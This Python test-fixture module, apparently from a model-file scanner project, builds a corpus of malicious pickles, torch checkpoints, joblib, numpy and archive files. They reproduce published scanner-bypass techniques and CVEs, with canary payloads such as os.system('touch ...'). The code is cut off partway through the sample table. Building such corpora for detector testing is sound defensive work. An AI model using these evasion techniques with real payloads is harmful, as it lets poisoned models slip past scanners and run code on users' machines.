"""Canary payloads: malicious pickles, checkpoints and archives built from published
scanner-bypass techniques, for safeart's tests (any package may import this module).

Every payload is harmless: if one ever ran, its only effect would be to create the canary file
it was built with (``builtins.open(canary, 'w')``, ``pathlib.Path(canary).touch()``, ``touch
canary`` or ``pip --log canary``); a few reference primitives whose call would simply fail.

API::

    canary_reduce_pickle(canary, protocol=4) -> bytes      # builtins.open(canary, 'w')
    inject_reduce(pickled, canary) -> bytes                # Sleepy Pickle: payload in a model
    truncated_after_reduce(canary, protocol=2) -> bytes    # nullifAI broken pickle
    legacy_torch_stream(canary, where="magic") -> bytes    # what _load_from_bytes receives
    nested_load_from_bytes_payload(canary) -> bytes        # tensor pickle with a bad storage
    malicious_torch_zip(canary, member=..., bad_crc=..., encrypted_flag=..., name_mismatch=...)
    SAMPLES: dict[str, Sample]                             # the whole corpus, by technique

Low-level helpers (``op``, ``unicode``, ``stack_global``, ``glob``, ``fragment``) splice
opcodes by hand where ``pickle.dumps`` cannot produce the trick.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Union

__all__ = [
    "Sample",
    "SAMPLES",
    "canary_reduce_pickle",
    "inject_reduce",
    "truncated_after_reduce",
    "legacy_torch_stream",
    "nested_load_from_bytes_payload",
    "malicious_torch_zip",
    "fragment",
    "unicode",
    "stack_global",
    "glob",
]

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
Canary = Union[str, Path]


# -- opcode helpers -------------------------------------------------------------------------
def fragment(value: Any) -> bytes:
    """Opcodes pushing a plain ``value`` (protocol 3, no PROTO/STOP, no memo)."""
    buf = io.BytesIO()
    p = pickle.Pickler(buf, protocol=3)
    p.fast = True  # no memo opcodes: fragments can be spliced anywhere
    p.dump(value)
    return buf.getvalue()[2:-1]


def unicode(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE pushing ``s``."""
    raw = s.encode("utf-8", "surrogatepass")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def stack_global(module: str, name: str) -> bytes:
    """Protocol 4 import: two strings then STACK_GLOBAL."""
    return unicode(module) + unicode(name) + b"\x93"


def glob(module: str, name: str) -> bytes:
    """Protocol 0-3 import: GLOBAL with two lines."""
    return b"c" + f"{module}\n{name}\n".encode()


def _call(callable_ops: bytes, *args: Any) -> bytes:
    return callable_ops + fragment(tuple(args)) + b"R"


def _p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def canary_reduce_pickle(canary: Canary, protocol: int = 4) -> bytes:
    """``builtins.open(canary, 'w')`` through REDUCE, at any protocol (0-5)."""
    if protocol >= 4:
        return b"\x80" + bytes([protocol]) + _call(stack_global("builtins", "open"),
                                                  str(canary), "w") + b"."
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    args = f"(V{canary}\nVw\ntR." if protocol == 0 else None
    if args:
        return head + glob("builtins", "open") + args.encode()
    return head + glob("builtins", "open") + fragment((str(canary), "w")) + b"R."


def inject_reduce(pickled: bytes, canary: Canary) -> bytes:
    """Sleepy Pickle (Trail of Bits, 2024): run a payload, then build the original object.

    The payload ops go right after PROTO, outside any frame, and are POPped: the pickle still
    loads to the very same model.
    """
    assert pickled[:1] == b"\x80"
    payload = _call(stack_global("builtins", "open"), str(canary), "w") + b"0"
    return pickled[:2] + payload + pickled[2:]


def truncated_after_reduce(canary: Canary, protocol: int = 2) -> bytes:
    """nullifAI (ReversingLabs, 2025): the payload runs, then the stream breaks."""
    body = canary_reduce_pickle(canary, protocol)[:-1]
    return body + b"\x00\xff broken"


def legacy_torch_stream(canary: Canary, where: str = "magic") -> bytes:
    """A legacy torch stream (5 stacked pickles + a raw record) with a payload.

    ``where``: ``magic`` (torch.load runs it before checking the magic number), ``data``
    (injected into the main pickle) or ``trailing`` (a sixth pickle after the raw records).
    """
    import pickletools

    import torch

    tensor_pickle = pickle.dumps(torch.ones(2), protocol=4)
    stream = next(arg for op, arg, _ in pickletools.genops(tensor_pickle)
                  if op.name == "BINBYTES")  # the storage's own legacy stream
    magic = pickle.dumps(TORCH_MAGIC, protocol=2)
    assert stream.startswith(magic)
    if where == "magic":
        payload = b"\x80\x02" + _call(glob("builtins", "open"), str(canary), "w") + b"0"
        return payload + magic[2:] + stream[len(magic):]
    if where == "trailing":
        return stream + canary_reduce_pickle(canary, 2)
    raise ValueError(where)


def nested_load_from_bytes_payload(canary: Canary, protocol: int = 4) -> bytes:
    """``torch.storage._load_from_bytes(<legacy stream with a payload>)``, as a plain pickle of
    a tensor would carry it (every Metaflow torch artifact has these calls)."""
    inner = legacy_torch_stream(canary, "magic")
    return _p4(_call(stack_global("torch.storage", "_load_from_bytes"), inner)) if protocol >= 4 \
        else b"\x80\x02" + _call(glob("torch.storage", "_load_from_bytes"), inner) + b"."


def _torch_zip(payload: bytes, member: str) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            name = info.filename
            if name.endswith("data.pkl"):
                data, name = payload, member
            # A fixed time (reproducible bytes) whose DOS encoding holds a newline (0x0a):
            # after a pickle's STOP, a local header then parses as a protocol 0 PERSID line.
            dst.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 20)), data)
    return out.getvalue()


def _patch_central(data: bytes, name: str, patch: Callable[[bytearray, int, int], None]) -> bytes:
    raw = bytearray(data)
    pos = raw.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = int.from_bytes(raw[pos + 28:pos + 30], "little")
        if raw[pos + 46:pos + 46 + nlen].decode() == name:
            local = int.from_bytes(raw[pos + 42:pos + 46], "little")
            patch(raw, pos, local)
            return bytes(raw)
        pos = raw.find(b"PK\x01\x02", pos + 4)
    raise KeyError(name)


def malicious_torch_zip(
    canary: Canary,
    member: str = "archive/data.pkl",
    *,
    bad_crc: bool = False,
    encrypted_flag: bool = False,
    name_mismatch: bool = False,
    sleepy: bool = True,
) -> bytes:
    """A torch.save zip whose data.pkl (renamed ``member``) runs the canary.

    ``sleepy``: inject into the real data.pkl (it still loads) instead of replacing it.
    ``bad_crc`` (CVE-2025-10156), ``encrypted_flag`` (CVE-2025-1945) and ``name_mismatch``
    (CVE-2025-1944) corrupt the archive the way published picklescan bypasses did; PyTorch
    loads such archives, Python's zipfile raises on them.
    """
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    real = zipfile.ZipFile(io.BytesIO(buf.getvalue())).read("archive/data.pkl")
    payload = inject_reduce(real, canary) if sleepy else canary_reduce_pickle(canary, 2)
    data = _torch_zip(payload, member)

    def patch(raw: bytearray, central: int, local: int) -> None:
        if bad_crc:
            raw[central + 16:central + 20] = b"\xde\xad\xbe\xef"
            raw[local + 14:local + 18] = b"\xde\xad\xbe\xef"
        if encrypted_flag:
            for at in (central + 8, local + 6):
                raw[at] |= 0x1
        if name_mismatch:
            nlen = int.from_bytes(raw[local + 26:local + 28], "little")
            raw[local + 30:local + 30 + nlen] = b"x" * nlen

    return _patch_central(data, member, patch) if (bad_crc or encrypted_flag or name_mismatch) \
        else data


# -- the corpus ------------------------------------------------------------------------------
@dataclass(frozen=True)
class Sample:
    """One technique: how to build it, where it was published, what the scan must say."""

    build: Callable[[Path], bytes]
    reference: str
    #: "dangerous": a dangerous finding is required; "fail": at least unknown / incomplete.
    expect: str = "dangerous"


def _joblib_object_array(canary: Path) -> bytes:
    # A NumpyArrayWrapper with an object dtype: joblib.load unpickles what follows its BUILD.
    dtype = _call(stack_global("numpy", "dtype"), "O8", False, True)
    state = (b"}(" + unicode("subclass") + stack_global("numpy", "ndarray")
             + unicode("shape") + fragment((1,)) + unicode("order") + unicode("C")
             + unicode("dtype") + dtype + unicode("allow_mmap") + b"\x89u")
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    return b"\x80\x04" + wrapper + canary_reduce_pickle(canary, 2) + b"."


def _joblib_after_array(canary: Path) -> bytes:
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump([np.arange(8.0), "tail"], buf, protocol=2)  # no frames to keep consistent
    data = buf.getvalue()
    at = data.rindex(b"X\x04\x00\x00\x00tail")  # in the pickle after the inline array
    payload = _call(stack_global("builtins", "open"), str(canary), "w") + b"0"
    return data[:at] + payload + data[at:]


def _joblib_array_as_opcodes(canary: Path) -> bytes:
    # An inline array without alignment padding (joblib's older layout, still loaded): joblib
    # reads its bytes as data, pickle.load reads them as opcodes that call the payload.
    import joblib
    import numpy as np

    ops = b"0" + glob("os", "system") + f"(Vtouch {canary}\ntR0N".encode()
    buf = io.BytesIO()
    joblib.dump([np.frombuffer(ops, dtype=np.uint8), "tail"], buf, protocol=2)
    data = buf.getvalue()
    key = data.index(b"X\x1b\x00\x00\x00numpy_array_alignment_bytes")
    value_end = data.index(b"K\x10", key) + 2  # the key, its memo PUT and the value 16
    at = data.index(ops, value_end)  # after SETITEMS, BUILD, a pad length byte and 1 pad byte
    assert data[at - 4:at - 2] == b"ub"
    return data[:key] + data[value_end:at - 2] + data[at:]


def _npy_object(canary: Path) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([1, "x"], dtype=object), allow_pickle=True)
    data = buf.getvalue()
    header_end = data.index(b"\n") + 1
    return data[:header_end] + canary_reduce_pickle(canary, 3)


def _npz(canary: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("ok.npy", _npy_object(canary))
    return out.getvalue()


def _legacy_tar(canary: Path) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        # torch's tar loader unpickles the 'storages' member first (storage count).
        for name, data in [("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                           ("storages", canary_reduce_pickle(canary, 2))]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


# -- containers as their victims' readers accept them (issue 12, "Misses") ----------------
def _zfile(canary: Path) -> bytes:
    # joblib's legacy format, still read by joblib.load(path): "ZF", the hex length padded to
    # 19 bytes, one zlib stream (joblib.numpy_pickle_compat.read_zfile).
    data = canary_reduce_pickle(canary, 2)
    return b"ZF" + f"{len(data):#x}".encode().ljust(19) + zlib.compress(data)


def v7_tar(members: dict[str, bytes]) -> bytes:
    """A tar of old V7 headers (no ``ustar`` magic: bytes 257-511 are NUL), checksums
    recomputed: ``tarfile`` (so torch's legacy loader) reads them."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            tar.addfile(info, io.BytesIO(data))
    raw, pos = bytearray(out.getvalue()), 0
    while pos + 512 <= len(raw) and raw[pos:pos + 512].strip(b"\0"):
        raw[pos + 257:pos + 512] = bytes(255)
        raw[pos + 148:pos + 156] = b" " * 8
        raw[pos + 148:pos + 156] = b"%06o\0 " % sum(raw[pos:pos + 512])
        size = int(bytes(raw[pos + 124:pos + 136]).strip(b"\0 ") or b"0", 8)
        pos += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def joblib_wrapper(dtype_ops: bytes, inner: bytes, layout: str = "dict") -> bytes:
    """A joblib ``NumpyArrayWrapper`` (shape (1,)) whose dtype ``dtype_ops`` pushes, then
    ``inner``: what joblib.load reads after its BUILD. ``layout``: its attributes in a dict
    state, in a slot state ``(None, {...})``, or as ``__init__`` arguments (``init``)."""
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")
    items = [("subclass", stack_global("numpy", "ndarray")), ("shape", fragment((1,))),
             ("order", unicode("C")), ("dtype", dtype_ops), ("allow_mmap", b"\x89")]
    if layout == "init":
        built = wrapper + b"(" + b"".join(ops for _, ops in items[:4]) + b"tR}b"
    else:
        state = b"}(" + b"".join(unicode(k) + ops for k, ops in items) + b"u"
        built = wrapper + b")\x81" + (b"N" + state + b"\x86" if layout == "slots" else state) + b"b"
    return b"\x80\x04" + built + inner + b"."


def _dtype(*args: Any, state: tuple[Any, ...] | None = None) -> bytes:
    """``numpy.dtype(*args)``, then ``__setstate__(state)``."""
    ops = _call(stack_global("numpy", "dtype"), *args)
    return ops + fragment(state) + b"b" if state is not None else ops


def _objects_pickle(canary: Path) -> bytes:
    """The canary pickle behind a bytes literal whose bytes 8, 16, 24 and 32 bytes in start
    a huge BINBYTES: a scanner that skips the wrong number of array bytes reads a truncated
    literal there, a fresh unpickler (joblib's) reads the literal, then the payload."""
    swallow = b"x" + (b"B\xff\xff\xff\x7f" + b"xxx") * 4
    return (b"\x80\x02B" + struct.pack("<I", len(swallow)) + swallow + b"0"
            + canary_reduce_pickle(canary, 2)[2:])


def _joblib_objects(dtype_ops: bytes, layout: str = "dict") -> Callable[[Path], bytes]:
    return lambda c: joblib_wrapper(dtype_ops, _objects_pickle(c), layout)


def _gzip_split_members(canary: Path) -> bytes:
    # Python's gzip module reads every member and skips NUL padding between them: the
    # pickle is cut in two members with padding between (gzip._GzipReader._read_eof).
    data = canary_reduce_pickle(canary, 2)
    return gzip.compress(data[:2], mtime=0) + bytes(16) + gzip.compress(data[2:], mtime=0)


def _gzip_header_zlib_refuses(canary: Path) -> bytes:
    # gzip._read_gzip_header discards the header CRC unchecked and ignores reserved flag
    # bits; zlib's own gzip mode (wbits=31) refuses both.
    data = canary_reduce_pickle(canary, 2)
    deflate = zlib.compressobj(wbits=-15)
    body = deflate.compress(data) + deflate.flush()
    header = b"\x1f\x8b\x08" + bytes([0x02 | 0x80]) + bytes(6) + b"\xde\xad"
    return header + body + struct.pack("<II", zlib.crc32(data), len(data))


def _npz_compressed(method: int) -> Callable[[Path], bytes]:
    def build(canary: Path) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", compression=method) as z:
            z.writestr("ok.npy", _npy_object(canary))
        return out.getvalue()
    return build


def npy_long_header(descr: str, shape: tuple[int, ...], body: bytes, size: int = 12_000) -> bytes:
    """An .npy (version 1.0) whose header is padded past numpy's 10 kB ``max_header_size``."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    header = header.ljust(size - 1) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


def _lzma_small_dictionary(canary: Path) -> bytes:
    # lzma-alone with a 12 KiB dictionary: header ']\x00\x30\x00\x00' (joblib's prefix is
    # ']\x00'; LZMAFile's FORMAT_AUTO takes any dictionary size of 2^n or 2^n + 2^(n-1)).
    return lzma.compress(canary_reduce_pickle(canary, 2), format=lzma.FORMAT_ALONE,
                         filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 12 << 10}])


def _bzip2_magic_pickle(canary: Path) -> bytes:
    # 'BZh' starts bzip2 files and is BINBYTES (length 'Zh\0\0' = 26714) to pickle.loads.
    return b"BZh\0\0" + bytes(26714) + b"0" + canary_reduce_pickle(canary, 2)[2:]


def _frame_straddle(canary: Path) -> bytes:
    # The FRAME ends one byte into the STACK_GLOBAL operand: pickle.load (file) drops the
    # frame's tail and reads on from the file; pickle.loads parses linearly.
    body = _call(stack_global("builtins", "open"), str(canary), "w") + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + body


def _stop_in_frame(canary: Path) -> bytes:
    hidden = canary_reduce_pickle(canary, 4)
    inner = b"N." + hidden
    return b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner


def _memo_trick(canary: Path) -> bytes:
    # picklescan issue #22 (ImaginaryCTF 2023 "Safe Pickle"): the strings STACK_GLOBAL uses
    # come from the memo while decoy strings sit right before it in the byte stream.
    return _p4(
        unicode("builtins") + b"\x94" + unicode("open") + b"\x94" + b"00"
        + unicode("collections") + unicode("OrderedDict") + b"00"
        + b"h\x00h\x01\x93" + fragment((str(canary), "w")) + b"R"
    )


def _dup_memo_desync(canary: Path) -> bytes:
    # DUP then MEMOIZE: scanners that model the memo wrongly resolve index 1 to 'collections'.
    return _p4(
        unicode("collections") + b"\x94" + unicode("builtins") + b"2\x94" + b"0"
        + unicode("open") + b"\x94" + b"h\x01h\x02\x93" + fragment((str(canary), "w")) + b"R"
    )


def _int_differential(canary: Path) -> bytes:
    # CPython's INT accepts base prefixes (strtol base 0); pickletools.genops raises, so
    # genops-based scanners give up before the payload.
    return b"I0x10\n0" + glob("builtins", "open") + f"(V{canary}\nVw\ntR.".encode()


def _obfuscated_stack_global(canary: Path) -> bytes:
    rot13 = _call(stack_global("codecs", "decode"), "ohvygvaf", "rot13")
    return _p4(rot13 + unicode("open") + b"\x93" + fragment((str(canary), "w")) + b"R")


def _methodcaller(canary: Path) -> bytes:
    touch = _call(stack_global("operator", "methodcaller"), "touch")
    path = _call(stack_global("pathlib", "Path"), str(canary))
    return _p4(touch + b"(" + path + b"tR")


def _partial(canary: Path) -> bytes:
    partial = (stack_global("functools", "partial") + b"(" + stack_global("builtins", "open")
               + fragment(str(canary)) + fragment("w") + b"tR")
    return _p4(partial + b")R")


def _partial_os_system(canary: Path) -> bytes:
    partial = (stack_global("functools", "partial") + b"(" + stack_global("os", "system")
               + fragment(f"touch {canary}") + b"tR")
    return _p4(partial + b")R")


def _partial_newobj_launders_a_call(canary: Path) -> bytes:
    # partial.__new__(partial, Linear, 2**17, 2**17) by NEWOBJ (what a class entry admits),
    # then REDUCE of the partial object: Linear(2**17, 2**17) runs where no call grader sees
    # it (64 GiB of weights). The format's partial codec must never admit this pickle.
    args = (b"(" + stack_global("torch.nn.modules.linear", "Linear") + fragment(2**17)
            + fragment(2**17) + b"t")
    return _p4(stack_global("functools", "partial") + args + b"\x81)R")


def _getattr_chain(canary: Path) -> bytes:
    io_mod = _call(stack_global("builtins", "__import__"), "io")
    opener = stack_global("builtins", "getattr") + b"(" + io_mod + unicode("open") + b"tR"
    return _p4(opener + fragment((str(canary), "w")) + b"R")


def _ext(code: int) -> Callable[[Path], bytes]:
    def build(canary: Path) -> bytes:
        return b"\x80\x02\x82" + bytes([code]) + fragment((str(canary), "w")) + b"R."
    return build


def _gz_nest(levels: int) -> Callable[[Path], bytes]:
    def build(canary: Path) -> bytes:
        data = canary_reduce_pickle(canary)
        for _ in range(levels):
            data = gzip.compress(data, mtime=0)
        return data
    return build


def _torch_model_sleepy(canary: Path) -> bytes:
    import torch

    return inject_reduce(pickle.dumps(torch.nn.Linear(2, 2), protocol=4), canary)


def _zip_polyglot(canary: Path) -> bytes:
    return pickle.dumps({"ok": 1}, protocol=4) + _torch_zip(
        canary_reduce_pickle(canary, 2), "archive/data.pkl")


def _tar_polyglot(canary: Path) -> bytes:
    # The first member's name is a protocol 0 pickle: pickle.loads(archive) runs it; the tar
    # magic sits at offset 257, so content sniffing calls the file a tar.
    name = f"cbuiltins\nopen\n(V{canary}\nVw\ntR.".encode()
    assert len(name) <= 100, "a tar name field holds 100 bytes: use a shorter canary path"
    header = tarfile.TarInfo(name.decode("latin-1"))
    header.size = 4
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        tar.addfile(header, io.BytesIO(b"data"))
    return out.getvalue()


def _safetensors_polyglot(canary: Path) -> bytes:
    # BINUNICODE with a 2-byte length: the first 8 bytes read as a little-endian u64 header
    # length N, byte 8 is '{', so it sniffs as safetensors; pickle.loads runs the payload
    # after the string and ignores the padding up to N.
    head = b"X" + struct.pack("<I", 4) + b"\0\0\0{"
    body = head + b"0" + canary_reduce_pickle(canary, 4)[2:]
    return body + b" " * (8 + int.from_bytes(head[:8], "little") - len(body))


def _called_with(module: str, name: str, arg_ops: bytes) -> bytes:
    """``module.name(<value arg_ops push>)``, protocol 4."""
    return _p4(stack_global(module, name) + arg_ops + b"\x85R")


def _huge_range() -> bytes:
    return _call(stack_global("builtins", "range"), 2**31)  # lazy here; 2**31 items when built


def _huge_reconstruct(canary: Path) -> bytes:
    return _p4(stack_global("numpy._core.multiarray", "_reconstruct") + b"("
               + stack_global("numpy", "ndarray") + fragment((2**40,)) + fragment(b"b") + b"tR")


def _random_ints(bits: int) -> tuple[int, int]:
    """Two reproducible odd ints of ``bits`` bits (their gcd takes quadratic time)."""
    import random

    rng = random.Random(0)
    return rng.getrandbits(bits) | 1, rng.getrandbits(bits) | 1


_ISSUE_12 = "resource exhaustion through an allowlisted callable, issue 12"
_DIGITS = "CPU exhaustion through an allowlisted number type (no allocation to speak of)"

_PTY = (b"(" + glob("pty", "spawn") + b"(Vtouch\nV{c}\ntp0\no.")

SAMPLES: dict[str, Sample] = {
    "reduce_builtins_open_p0": Sample(lambda c: canary_reduce_pickle(c, 0), "classic REDUCE, protocol 0"),
    "reduce_builtins_open_p2": Sample(lambda c: canary_reduce_pickle(c, 2), "classic REDUCE, protocol 2"),
    "reduce_builtins_open_p5": Sample(lambda c: canary_reduce_pickle(c, 5), "classic REDUCE, protocol 5"),
    "os_system_touch": Sample(
        lambda c: _p4(_call(stack_global("os", "system"), f"touch {c}")), "os.system payload"),
    "pip_main_cve_2025_1716": Sample(
        lambda c: _p4(_call(stack_global("pip", "main"), ["--log", str(c), "help"])),
        "CVE-2025-1716 (Sonatype): pip.main not on picklescan's list"),
    "pty_spawn_obj_p0": Sample(
        lambda c: _PTY.replace(b"{c}", str(c).encode()),
        "fickling GHSA-r7v6-mfhq-g3m2 / PR #108: pty.spawn via proto 0 OBJ"),
    "inst_opcode_p0": Sample(
        lambda c: f"(V{c}\nVw\nibuiltins\nopen\n.".encode(), "protocol 0 INST calls a global"),
    "asyncio_submodule_cve_2025_10157": Sample(
        lambda c: _p4(_call(stack_global("asyncio.unix_events", "_UnixSubprocessTransport"),
                            str(c))),
        "CVE-2025-10157 (JFrog): submodule of a listed module (call would fail harmlessly)"),
    "idlelib_ghsa_r8g5": Sample(
        lambda c: _p4(_call(stack_global("idlelib.pyshell", "ModifiedInterpreter"), str(c))),
        "picklescan GHSA-r8g5-cgf2-4m4m: idlelib/lib2to3 (call would fail harmlessly)"),
    "getattr_import_chain": Sample(_getattr_chain, "builtins.getattr + __import__ chain"),
    "operator_methodcaller": Sample(
        _methodcaller, "picklescan GHSA-m273-6v24-x4m4: operator callables"),
    "functools_partial": Sample(_partial, "functools.partial wrapper (fickling PR #210)"),
    "functools_partial_os_system": Sample(
        _partial_os_system, "functools.partial(os.system, cmd)() (fickling PR #210 variant): "
        "still dangerous although safeart's format has a functools.partial codec"),
    "functools_partial_newobj_launder": Sample(
        _partial_newobj_launders_a_call,
        f"NEWOBJ of functools.partial over the allowed class nn.Linear, then REDUCE of the "
        f"partial: a call no grader sees; {_ISSUE_12}"),
    "copyreg_reconstructor": Sample(
        lambda c: b"\x80\x02" + _call(glob("copyreg", "_reconstructor"), object, object, None)
        + b".",
        "copyreg._reconstructor abuse (harmless call)"),
    "dotted_name_traversal": Sample(
        lambda c: _p4(_call(stack_global("pathlib", "os.system"), f"touch {c}")),
        "protocol 4 dotted names: pathlib + os.system"),
    "stack_global_memo_trick": Sample(_memo_trick, "picklescan issue #22: STACK_GLOBAL from memo"),
    "dup_memo_desync": Sample(_dup_memo_desync, "memo desync after DUP (parser differential)"),
    "int_base_prefix_differential": Sample(
        _int_differential, "I0x10: CPython strtol base 0 vs pickletools int() (genops crash)"),
    "obfuscated_stack_global": Sample(
        _obfuscated_stack_global, "STACK_GLOBAL operands built by a call (rot13)"),
    "frame_straddle": Sample(_frame_straddle, "FRAME boundary differential (C file vs loads)"),
    "stop_inside_frame_hidden_pickle": Sample(_stop_in_frame, "second pickle hidden in a frame"),
    "ext_code_unregistered": Sample(_ext(0xF0), "EXT1 code registered only in the victim"),
    "data_after_stop": Sample(
        lambda c: pickle.dumps([1, 2], protocol=4) + canary_reduce_pickle(c),
        "second pickle after STOP (pickle.load called twice)"),
    "truncated_after_reduce_nullifai": Sample(
        truncated_after_reduce, "nullifAI (ReversingLabs 2025): broken pickle after payload"),
    "truncated_frame_after_reduce": Sample(
        lambda c: canary_reduce_pickle(c, 4).replace(b"\x80\x04", b"\x80\x04\x95" + struct.pack(
            "<Q", 4096), 1), "payload inside a FRAME that runs past the end"),
    "nested_load_from_bytes": Sample(
        nested_load_from_bytes_payload, "payload in a tensor's _load_from_bytes legacy stream"),
    "load_from_bytes_non_literal": Sample(
        lambda c: _p4(stack_global("torch.storage", "_load_from_bytes") + b"("
                      + _call(stack_global("base64", "b64decode"), "AAAA") + b"tR"),
        "_load_from_bytes fed by another call"),
    "torch_load_nested": Sample(
        lambda c: _p4(stack_global("torch.serialization", "load") + b"("
                      + _call(stack_global("io", "BytesIO"), legacy_torch_stream(c)) + b"tR"),
        "torch.load called from a pickle (weights_only defaults to True since torch 2.6)"),
    "legacy_torch_magic_payload": Sample(
        lambda c: legacy_torch_stream(c, "magic"), "legacy torch: code runs before magic check"),
    "legacy_torch_trailing_pickle": Sample(
        lambda c: legacy_torch_stream(c, "trailing"), "pickle after the raw storage records"),
    "legacy_torch_tar": Sample(_legacy_tar, "legacy torch tar format member"),
    "torch_zip_sleepy_pickle": Sample(
        malicious_torch_zip, "Sleepy Pickle (Trail of Bits 2024): injected data.pkl"),
    "torch_zip_nonstandard_member_cve_2025_10155": Sample(
        lambda c: malicious_torch_zip(c, "archive/weights.bin"),
        "content, not names: a pickle member not named *.pkl (the member-level variant of "
        "CVE-2025-1889 / CVE-2025-10155, which hid pickles behind file extensions)"),
    "torch_zip_uppercase_member": Sample(
        lambda c: malicious_torch_zip(c, "ARCHIVE/DATA.PKL"),
        "member name case: scanners that match 'data.pkl' exactly miss it"),
    "torch_zip_bad_crc_cve_2025_10156": Sample(
        lambda c: malicious_torch_zip(c, bad_crc=True), "CVE-2025-10156 (JFrog): bad CRC"),
    "torch_zip_flag_bits_cve_2025_1945": Sample(
        lambda c: malicious_torch_zip(c, encrypted_flag=True),
        "CVE-2025-1945 (Sonatype): flag bits (torch 2.13's reader refuses this one)"),
    "torch_zip_name_mismatch_cve_2025_1944": Sample(
        lambda c: malicious_torch_zip(c, name_mismatch=True), "CVE-2025-1944 (Sonatype)"),
    "torch_module_sleepy_pickle": Sample(
        _torch_model_sleepy, "Sleepy Pickle: payload injected in pickle.dumps(nn.Module)"),
    "seven_zip_wrapped_nullifai": Sample(
        lambda c: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + canary_reduce_pickle(c),
        "nullifAI: 7z-compressed model", expect="fail"),
    "gzip_wrapped": Sample(lambda c: gzip.compress(canary_reduce_pickle(c)), "gzip (Metaflow blob)"),
    "bz2_wrapped": Sample(lambda c: bz2.compress(canary_reduce_pickle(c)), "bz2 wrapper"),
    "xz_wrapped": Sample(lambda c: lzma.compress(canary_reduce_pickle(c)), "xz wrapper"),
    "zlib_wrapped_joblib_style": Sample(
        lambda c: zlib.compress(canary_reduce_pickle(c)), "joblib zlib compression"),
    "numpy_object_npy": Sample(_npy_object, "numpy .npy object array (allow_pickle)"),
    "numpy_npz_member": Sample(_npz, "npz member with object array"),
    "joblib_zfile_legacy": Sample(_zfile, "joblib.numpy_pickle_compat.read_zfile: legacy ZF "
                                  "file, still read by joblib.load(path)"),
    "legacy_torch_tar_v7_headers": Sample(
        lambda c: v7_tar({"sys_info": pickle.dumps({"protocol_version": 1001}, protocol=2),
                          "storages": canary_reduce_pickle(c, 2)}),
        "tarfile.TarInfo.frombuf (torch.serialization._legacy_load): V7 headers, no 'ustar'"),
    "joblib_dtype_pipe_O": Sample(
        _joblib_objects(_dtype("|O", False, True)),
        "joblib NumpyArrayWrapper.read_array: dtype '|O' (numpy.dtype(...).hasobject)"),
    "joblib_dtype_object_name": Sample(
        _joblib_objects(_dtype("object")), "joblib NumpyArrayWrapper.read_array: dtype 'object'"),
    "joblib_dtype_state_flag": Sample(
        _joblib_objects(_dtype("V8", False, True, state=(3, "|", None, None, None, 8, 1, 1))),
        "joblib read_array: 'V8' whose pickled state sets the object flag (dtype.__setstate__)"),
    "joblib_dtype_structured_object_field": Sample(
        _joblib_objects(_dtype([("a", "<f8"), ("b", "|O")], False, True)),
        "joblib read_array: structured dtype with an object field"),
    "joblib_dtype_subarray_objects": Sample(
        _joblib_objects(_dtype("(2,)O", False, True)),
        "joblib read_array: subarray dtype of objects"),
    "joblib_dtype_given_as_class": Sample(
        _joblib_objects(stack_global("numpy", "dtype")),
        "joblib read_array: the dtype is the class numpy.dtype (its hasobject is truthy)"),
    "joblib_wrapper_slot_state": Sample(
        _joblib_objects(_dtype("O8", False, True), "slots"),
        "pickle._Unpickler.load_build: wrapper attributes in a slot state"),
    "joblib_wrapper_init_args": Sample(
        _joblib_objects(_dtype("O8", False, True), "init"),
        "NumpyArrayWrapper.__init__ called (REDUCE), then an empty BUILD"),
    "gzip_nul_padded_members": Sample(
        _gzip_split_members, "gzip._GzipReader: pickle split over members with NUL padding"),
    "gzip_header_zlib_refuses": Sample(
        _gzip_header_zlib_refuses,
        "gzip._read_gzip_header: header CRC and reserved flags ignored (zlib refuses them)"),
    "npz_lzma_member": Sample(_npz_compressed(zipfile.ZIP_LZMA),
                              "zipfile.LZMADecompressor (numpy.load of an .npz): method 14"),
    "npz_bzip2_member": Sample(_npz_compressed(zipfile.ZIP_BZIP2),
                               "zipfile BZ2 member (numpy.load of an .npz): method 12"),
    "npy_header_over_10k": Sample(
        lambda c: npy_long_header("|O", (2,), canary_reduce_pickle(c, 3)),
